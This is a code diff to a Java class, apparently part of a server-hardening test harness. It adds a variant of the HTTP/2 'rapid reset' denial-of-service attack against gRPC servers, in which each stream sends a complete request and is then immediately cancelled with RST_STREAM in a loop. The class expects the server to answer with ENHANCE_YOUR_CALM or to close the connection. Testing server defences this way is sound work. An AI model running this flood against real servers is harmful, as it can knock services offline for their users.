@@ -51,6 +51,10 @@ public final class GrpcAttacks {
                 target -> flood(target, Http2Attacker.SETTINGS, settings())));
         attacks.add(new Attack(
                 "calls that are taken back at once", Set.of(ENHANCE_YOUR_CALM, HttpAttacker.CLOSED), this::rapidReset));
+        attacks.add(new Attack(
+                "whole requests that are taken back at once",
+                Set.of(ENHANCE_YOUR_CALM, HttpAttacker.CLOSED),
+                this::rapidResetOfWholeCalls));
         return attacks;
     }
 
@@ -108,11 +112,33 @@ public final class GrpcAttacks {
     }
 
     private String rapidReset(Target target) throws IOException {
+        return rapidReset(target, (attacker, stream) -> {});
+    }
+
+    private String rapidResetOfWholeCalls(Target target) throws IOException {
+        byte[] message = modelName();
+        byte[] data = ByteBuffer.allocate(5 + message.length)
+                .putInt(1, message.length)
+                .put(5, message)
+                .array();
+        return rapidReset(
+                target,
+                (attacker, stream) -> attacker.frame(Http2Attacker.DATA, Http2Attacker.END_STREAM, stream, data));
+    }
+
+    /** Sends the rest of a call whose headers are sent. */
+    @FunctionalInterface
+    private interface Request {
+        void send(Http2Attacker attacker, int stream) throws IOException;
+    }
+
+    private String rapidReset(Target target, Request request) throws IOException {
         try (Http2Attacker attacker = new Http2Attacker(target.grpc())) {
             try {
                 for (int i = 0; i < count / 10; i++) {
                     int stream = 2 * i + 1;
                     attacker.call(stream);
+                    request.send(attacker, stream);
                     attacker.frame(Http2Attacker.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
                 }
                 attacker.flush();
